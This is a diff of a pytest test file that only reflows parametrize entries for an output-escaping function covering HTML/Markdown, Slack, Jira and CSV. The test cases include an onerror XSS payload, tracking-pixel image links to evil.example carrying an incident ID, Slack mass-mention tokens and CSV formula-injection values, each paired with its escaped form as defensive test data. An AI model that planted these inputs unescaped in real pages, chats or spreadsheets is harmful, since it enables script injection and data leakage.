@@ -64,13 +64,9 @@ def reads(reader, source):
 @pytest.mark.parametrize(
     ("text", "escaped"),
     [
-        pytest.param(
-            "called back at 21:07, INC-12 (v1.2)", "called back at 21:07, INC-12 (v1.2)", id="plain text"
-        ),
+        pytest.param("called back at 21:07, INC-12 (v1.2)", "called back at 21:07, INC-12 (v1.2)", id="plain text"),
         pytest.param("2026-11-21 10:00", "2026-11-21 10:00", id="a date stays legible"),
-        pytest.param(
-            "<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)&gt;", id="H md-img-onerror"
-        ),
+        pytest.param("<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)&gt;", id="H md-img-onerror"),
         pytest.param(
             "![pixel](https://evil.example/track.png?i=INC-1)",
             r"!\[pixel\](https\:\/\/evil\.example/track\.png?i=INC-1)",
@@ -155,9 +151,7 @@ def test_html_reads_as_it_was_written(text):
         pytest.param("<!channel> <@U012AB3CD>", "&lt;!channel&gt; &lt;@U012AB3CD&gt;", id="calls"),
         pytest.param("&lt;!here&gt;", "&amp;lt;!here&amp;gt;", id="calls escaped already"),
         pytest.param("@here @Channel, @everyone", "＠here ＠Channel, ＠everyone", id="calls in words"),
-        pytest.param(
-            "ops@here.example.org @hereby", "ops@here.example.org @hereby", id="what only looks like a call"
-        ),
+        pytest.param("ops@here.example.org @hereby", "ops@here.example.org @hereby", id="what only looks like a call"),
         pytest.param("*b* _i_ ~s~ `c` ```d```", "∗b∗ ＿i＿ ∼s∼ ˋcˋ ˋˋˋdˋˋˋ", id="formatting"),
         pytest.param("user_id 2*3*4", "user_id 2*3*4", id="what formats nothing"),
         pytest.param("said:\n> all clear", "said:\n› all clear", id="quotes"),
@@ -184,9 +178,7 @@ def test_nothing_acts_in_slack(text):
         pytest.param("{code}x{code} {panel}", r"\{code\}x\{code\} \{panel\}", id="H jira-macro-code"),
         pytest.param("[~accountid:5b10] [~admin]", r"\[\~accountid:5b10\] \[\~admin\]", id="H jira-mention"),
         pytest.param("!https://evil.example/x.png!", r"\!https://evil.example/x.png\!", id="images"),
-        pytest.param(
-            "*b* _i_ -d- +u+ ??c?? ^s^", r"\*b\* \_i\_ \-d\- \+u\+ \?\?c\?\? \^s\^", id="formatting"
-        ),
+        pytest.param("*b* _i_ -d- +u+ ??c?? ^s^", r"\*b\* \_i\_ \-d\- \+u\+ \?\?c\?\? \^s\^", id="formatting"),
         pytest.param("2026-11-21 well-known, why?", "2026-11-21 well-known, why?", id="what formats nothing"),
         pytest.param("h1. x\nbq. y\n# z\n----", "h1&#46; x\nbq&#46; y\n\\# z\n\\-\\-\\-\\-", id="blocks"),
         pytest.param("||a|b", r"\|\|a\|b", id="tables"),
@@ -216,9 +208,7 @@ def test_nothing_acts_in_jira(text):
         pytest.param(" \n=1", "' \n=1", id="white space before it"),
         pytest.param("＝1", "'＝1", id="a wide one"),
         pytest.param("\r=1", "␍=1", id="a return is shown"),
-        pytest.param(
-            'a "quoted", value\nwith newline', 'a "quoted", value\nwith newline', id="H csv-quotes-newlines"
-        ),
+        pytest.param('a "quoted", value\nwith newline', 'a "quoted", value\nwith newline', id="H csv-quotes-newlines"),
         pytest.param("", "", id="nothing"),
     ],
 )
